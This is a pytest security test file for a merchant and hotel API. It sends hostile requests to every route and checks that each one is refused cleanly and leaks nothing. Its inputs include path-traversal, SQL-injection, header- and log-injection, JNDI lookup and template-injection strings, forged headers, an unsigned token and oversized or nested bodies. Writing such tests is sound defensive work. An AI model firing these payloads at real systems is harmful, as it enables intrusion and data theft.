"""Hostile requests, each tried on every route: nothing is let in, nothing breaks, and one shape answers."""

import logging
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any, Final

import pytest

from api.access import tokens
from api.database import open_database
from tests.api.databases import Template
from tests.api.every_route import OPEN, ROUTES, Doors, Route, bearer
from tests.api.world import NOW

MARK: Final = "f0rged"  # in every text that must not come out in a log


@pytest.fixture(scope="module")
def doors(tmp_path_factory: pytest.TempPathFactory, settled: Template) -> Iterator[Doors]:
    with settled.lent("", tmp_path_factory.mktemp("hostile")) as url:
        yield from opened(url)


@pytest.fixture(scope="module")
def on_postgresql(postgres: str, tmp_path_factory: pytest.TempPathFactory, settled: Template) -> Iterator[Doors]:
    with settled.lent(postgres, tmp_path_factory.mktemp("hostile")) as url:
        yield from opened(url)


def opened(url: str) -> Iterator[Doors]:
    database = open_database(url)
    doors = Doors(database)
    yield doors
    doors.world.engines.close()
    database.dispose()


@dataclass(frozen=True)
class Attack:
    """A request, and with what it must be answered: one of `statuses`. `on`: which routes it is for."""

    statuses: tuple[int, ...]
    headers: Callable[[Doors, Route], Any] = lambda doors, route: bearer(doors.token(route))
    on: Callable[[Route], bool] = lambda route: True
    id: str = "no-such-id"
    query: Callable[[Route], str] = lambda route: ""
    content: Callable[[Route], Any] = lambda route: None


REFUSED: Final = (400, 404, 413, 415, 422)
JSON: Final = {"Content-Type": "application/json"}


def guarded(route: Route) -> bool:
    return route not in OPEN


def with_ids(route: Route) -> bool:
    return route.ids


def with_body(route: Route) -> bool:
    return route.body


def bodyless_or_given(route: Route) -> bytes:
    return b"{}" if route.body else b""


def said(value: str) -> Callable[[Doors, Route], dict[str, str]]:
    return lambda doors, route: {"Authorization": value}


def beside(*more: tuple[str, str]) -> Callable[[Doors, Route], list[tuple[str, str]]]:
    """The token of a role that may not, with headers that claim more."""
    return lambda doors, route: [*bearer(doors.another(route)).items(), *more]


def claiming(*more: tuple[str, str]) -> Callable[[Doors, Route], list[tuple[str, str]]]:
    """No token, and headers that claim one is not needed."""
    return lambda doors, route: list(more)


CLAIMS: Final = (
    *(("X-Role", "admin"), ("X-User-Role", "admin"), ("Role", "supervisor"), ("X-Forwarded-User", "admin")),
    *(("X-Iftah-Role", "admin"), ("X-Party", "inn"), ("X-Remote-User", "admin"), ("Remote-User", "operator")),
    *(("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("Forwarded", "for=127.0.0.1;by=admin")),
    *(("X-Original-URL", "/v1/health"), ("X-Rewrite-URL", "/v1/health"), ("X-HTTP-Method-Override", "GET")),
    *(("Cookie", "role=admin; Authorization=Bearer x"), ("X-Authorization", "Bearer admin")),
    ("Proxy-Authorization", "Bearer admin"),
)


def expired(doors: Doors, route: Route) -> dict[str, str]:
    role = doors.roles[route]
    return bearer(doors.issue(role, doors.party(role), expires=NOW - timedelta(seconds=1)))


def revoked(doors: Doors, route: Route) -> dict[str, str]:
    """A token that was good, used, and ended; then sent again."""
    role = doors.roles[route]
    token = doors.issue(role, "leaver")
    doors.client.request(route.method, route.at("no-such-id"), headers=bearer(token))
    tokens.revoke(doors.world.database, f"{role} leaver", NOW)
    return bearer(token)


def twice(doors: Doors, route: Route) -> list[tuple[str, str]]:
    return [*bearer(doors.another(route)).items(), *bearer(doors.token(route)).items()]


def typed(kind: str, **more: str) -> Callable[[Doors, Route], dict[str, str]]:
    return lambda doors, route: {**bearer(doors.token(route)), "Content-Type": kind, **more}


def announcing(length: str) -> Callable[[Doors, Route], dict[str, str]]:
    return lambda doors, route: {**bearer(doors.token(route)), **JSON, "Content-Length": length}


def in_parts(megabytes: int) -> Callable[[Route], Iterator[bytes]]:
    """Without a length announced."""
    return lambda route: (b'"' + b"x" * 1_000_000 for _ in range(megabytes))


def over(megabytes: int) -> Callable[[Route], bytes]:
    return lambda route: b'"' + b"x" * megabytes * 1_000_000 + b'"'


def asking(value: str) -> Callable[[Route], str]:
    """Every parameter of the query that the route knows, and some that it does not."""
    return lambda route: "?" + "&".join(f"{name}={value}" for name in {*route.query, "role", "party", "subject"})


IDS: Final = {
    "up the folders": "../../../../etc/passwd",
    "up the folders, escaped": "..%2f..%2f..%2fetc%2fpasswd",
    "up the folders, escaped twice": "%252e%252e%252fetc%252fpasswd",
    "up the folders of Windows": "..%5c..%5cwindows%5cwin.ini",
    "a scheme": "file:%2f%2f%2fetc%2fpasswd",
    "SQL": "'%20OR%20'1'='1",
    "SQL that drops": "x';%20DROP%20TABLE%20tokens;%20--",
    "SQL that unites": "x'%20UNION%20SELECT%20digest%20FROM%20tokens%20--",
    "SQL of a pattern": "%25",
    "NUL": "a%00b",
    "NUL alone": "%00",
    "a line for the log": f"x%0d%0a2026-01-01%20ERROR%20{MARK}",
    "a header": "x%0d%0aSet-Cookie:%20role=admin",
    "a colour for the terminal": f"%1b[31m{MARK}",
    "no UTF-8": "%ff%fe",
    "half a character": "%ed%a0%80",
    "text from right to left": "%e2%80%ae" + MARK,
    "a very long one": "x" * 3_000,
    "a template": "%7b%7b7*7%7d%7d",
    "a format": "%25s%25s%25n{0.__class__}",
    "a lookup": "$%7bjndi:ldap:%2f%2fexample.org%2fa%7d",
    "a number of many digits": "9" * 400,
    "another party's": "other-inn%2fhotel",
}
BODIES: Final = {
    "nothing": b"",
    "no JSON": b"nonsense",
    "no UTF-8": b'{"subject": "\xff\xfe"}',
    "UTF-16": '["a"]'.encode("utf-16"),
    "NUL": b"\0" * 100,
    "a very deep list": b"[" * 30_000,
    "a very deep list that ends": b"[" * 30_000 + b"]" * 30_000,
    "a very deep object": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "deep inside a field": b'{"context": ' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"}",
    "a number of many digits": b'{"amount": ' + b"9" * 6_000 + b"}",
    "no number": b'{"amount": NaN}',
    "beyond numbers": b'{"amount": 1e99999}',
    "an empty list": b"[]",
    "null": b"null",
    "a prototype": b'{"__proto__": {"role": "admin"}, "constructor": 1}',
    "more than was asked": b'{"role": "admin", "party": "inn", "merchant": "inn", "is_admin": true}',
    "half a character": b'{"subject": "\\ud800", "id": "\\udfff", "statement": "\\ud800", "perk": "\\ud800"}',
    "NUL in every text": b'{"subject": "a\\u0000b", "id": "\\u0000", "statement": "\\u0000", "perk": "\\u0000"}',
    "a line for the log": f'{{"subject": "x\\n2026-01-01 ERROR {MARK}", "{MARK}\\r\\n": 1}}'.encode(),
    "many keys": b"{" + b",".join(b'"%d":1' % n for n in range(5_000)) + b"}",
}
ATTACKS: Final = {
    "no token": Attack((401,), claiming(), guarded),
    "no token but claims": Attack((401,), claiming(*CLAIMS), guarded),
    "no token but a claim in the address": Attack((401,), claiming(), guarded, query=asking("admin")),
    "another's role": Attack((403,), beside(), guarded),
    "another's role and claims": Attack((403,), beside(*CLAIMS), guarded),
    "another's role and a claim in the address": Attack((403,), beside(), guarded, query=asking("admin")),
    "an expired token": Attack((401,), expired, guarded),
    "a token that was revoked, again": Attack((401,), revoked, guarded),
    "two tokens": Attack((400,), twice, guarded),
    "a guessed token": Attack((401,), said("Bearer iftah_" + "A" * 43), guarded),
    "a token of SQL": Attack((401,), said("Bearer ' OR '1'='1' --"), guarded),
    "no token after Bearer": Attack((401,), said("Bearer "), guarded),
    "a very long token": Attack((401,), said("Bearer " + "A" * 50_000), guarded),
    "a token in Latin-1": Attack((401,), lambda doors, route: [(b"Authorization", b"Bearer \xff\xe9")], guarded),
    "a password": Attack((401,), said("Basic YWRtaW46YWRtaW4="), guarded),
    "an unsigned token": Attack((401,), said("Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ."), guarded),
    "10 MB": Attack((413, *REFUSED), typed("application/json"), with_body, content=over(17)),
    "10 MB without a token": Attack((401, 413), lambda doors, route: JSON, with_body, content=over(17)),
    "10 MB in parts": Attack((413,), typed("application/json"), with_body, content=in_parts(17)),
    "an announced terabyte": Attack((413,), announcing("1" + "0" * 12), content=bodyless_or_given),
    "a length that is none": Attack((413,), announcing("-1"), content=bodyless_or_given),
    "a body of another type": Attack((415, 422), typed("text/xml"), with_body, content=lambda route: b"<!DOCTYPE a>"),
    "a form": Attack((415, 422), typed("application/x-www-form-urlencoded"), with_body, content=lambda route: b"a=1"),
    "a body said to be packed": Attack(
        REFUSED,
        typed("application/json", **{"Content-Encoding": "gzip"}),
        with_body,
        content=lambda route: b"\x1f\x8b\x08",
    ),
    **{
        f"a body: {name}": Attack(REFUSED, typed("application/json"), with_body, content=lambda route, body=body: body)
        for name, body in BODIES.items()
    },
    **{
        f"an id: {name}": Attack(REFUSED, on=with_ids, id=value, content=bodyless_or_given)
        for name, value in IDS.items()
    },
    **{
        f"a query: {name}": Attack(
            (200, *REFUSED), on=lambda route: bool(route.query), query=asking(value), content=bodyless_or_given
        )
        for name, value in IDS.items()
    },
}


@pytest.mark.parametrize("name", ATTACKS)
def test_no_route_lets_it_in_or_breaks(doors: Doors, name: str, caplog: pytest.LogCaptureFixture) -> None:
    hold(doors, ATTACKS[name], caplog)


@pytest.mark.parametrize("name", [name for name in ATTACKS if ": " in name])
def test_nor_on_the_database_that_keeps_no_nul(
    on_postgresql: Doors, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    hold(on_postgresql, ATTACKS[name], caplog)


def hold(doors: Doors, attack: Attack, caplog: pytest.LogCaptureFixture) -> None:
    """Try it on every route that it is for."""
    caplog.set_level(logging.DEBUG, "iftah")
    tried = [route for route in ROUTES if attack.on(route)]
    wrong = {}
    for route in tried:
        address, headers = route.at(attack.id) + attack.query(route), attack.headers(doors, route)
        response = doors.client.request(route.method, address, headers=headers, content=attack.content(route))
        if not (response.status_code in attack.statuses and _proper(response)):
            wrong[str(route)] = f"{response.status_code} {response.text[:200]}"
    assert tried
    assert wrong == {}
    assert _said_too_much(caplog.records) == []


def _proper(response: Any) -> bool:
    """In the one shape, short, and without what the caller forged or what is ours alone."""
    if response.status_code == 200:
        return True
    shape = (
        response.headers["content-type"] == "application/problem+json"
        and response.json()["status"] == response.status_code
    )
    secret = any(word in response.text for word in ("Traceback", "sqlite", "SELECT", "/work/", "root:"))
    return shape and not secret and len(response.content) < 3_000 and "set-cookie" not in response.headers


def _said_too_much(records: list[logging.LogRecord]) -> list[str]:
    """Lines of our log that a caller could have written."""
    ours = [record.getMessage() for record in records if record.name.startswith("iftah")]
    return [line for line in ours if MARK in line or "\n" in line or "\r" in line or "\x1b" in line]


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND", "TRACK", "X" * 5_000])
def test_a_method_that_is_not_for_an_address_is_refused(doors: Doors, method: str) -> None:
    for route in ROUTES:
        response = doors.client.request(method, route.at("x"), headers=bearer(doors.token(route)))
        assert (response.status_code, response.json()["code"]) in ((405, "method_not_allowed"), (404, "not_found")), (
            route
        )


@pytest.mark.parametrize(
    "change",
    [
        str.upper,
        lambda p: f"/{p}",
        lambda p: f"{p}/",
        lambda p: p.replace("/v1", "/v1/../v1"),
        lambda p: f"{p};role=admin",
        lambda p: p.replace("/v1/", "/v1%2f"),
    ],
)
def test_another_way_to_write_an_address_is_no_way_round_the_token(doors: Doors, change: Callable[[str], str]) -> None:
    for route in filter(guarded, ROUTES):
        response = doors.client.request(
            route.method, f"http://testserver{change(route.at('x'))}", headers={"Host": "evil.example"}
        )
        assert response.status_code in (401, 404, 405), route
        assert "evil.example" not in str(response.headers) + response.text, route


def test_an_error_says_nothing_of_whoever_it_is_about(doors: Doors, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    body = {"subject": doors.person, "perk": doors.person, "amount": -1, doors.person: 1}
    for route in filter(with_body, ROUTES):
        response = doors.client.request(route.method, route.at("x"), json=body, headers=bearer(doors.token(route)))
        assert response.status_code in REFUSED, route
    assert not [r for r in caplog.records if r.name.startswith("iftah") and doors.person in r.getMessage()]


def _asked(doors: Doors) -> Any:
    return _posted(doors, "eligibility", transaction_id="T-1", service="hotel", subject=doors.person, amount=50_000)


def _sent(doors: Doors) -> Any:
    row = {"event_id": "mine", "kind": "person.enrolled", "subject": "ann", "identity_level": 1}
    return _posted(doors, "events", "contributor", events=[row | {"happened_at": "2020-01-01T00:00:00Z"}])


def _ordered(doors: Doors) -> str:
    decided = {"decision_id": _asked(doors)["decision_id"], "service": "hotel", "service_introduction": "a room"}
    made = _posted(doors, "orders", out_order_no="O-1", risk_fund={"name": "DEPOSIT", "amount": 50_000}, **decided)
    return str(made["out_order_no"])


def _posted(doors: Doors, group: str, role: str = "merchant", **body: Any) -> Any:
    return doors.client.post(f"/v1/{group}", json=body, headers=bearer(doors.tokens[role])).json()


# A thing's address -> how a party makes one of its own: the id. No other party learns of it, or does anything with it.
OWNED: Final[dict[str, Callable[[Doors], str]]] = {
    "/v1/decisions/{decision_id}": lambda doors: str(_asked(doors)["decision_id"]),
    "/v1/events/submissions/{submission_id}": lambda doors: str(_sent(doors)["id"]),
    "/v1/events/{event_id}": lambda doors: str(_sent(doors)["rows"][0]["event_id"]),
    "/v1/services/{service}": lambda doors: "hotel",
    "/v1/consents/{request_id}": lambda doors: str(
        _posted(doors, "consents", service="hotel", subject=doors.person, classes=["credit"])["id"]
    ),
    "/v1/orders/{out_order_no}": _ordered,
}


@pytest.mark.parametrize("path", [path for path in OWNED if any(r.path == path for r in ROUTES)])
def test_what_is_anothers_is_answered_as_what_is_not_there(doors: Doors, path: str) -> None:
    name = OWNED[path](doors)
    none_such = name[:-1] + ("1" if name[-1] == "0" else "0")
    for route in (r for r in ROUTES if r.path.startswith(path)):
        role, body = doors.roles[route], bodyless_or_given(route)
        other = bearer(doors.issue(role, f"another {role}"))
        found = doors.client.request(route.method, route.at(name), headers=other, content=body)
        none = doors.client.request(route.method, route.at(none_such), headers=other, content=body)
        assert (found.status_code in REFUSED, found.json()) == (True, none.json()), route
        if route.method == "GET":
            mine = doors.client.get(route.at(name), headers=bearer(doors.tokens[role]))
            assert (mine.status_code, found.status_code) == (200, 404), route
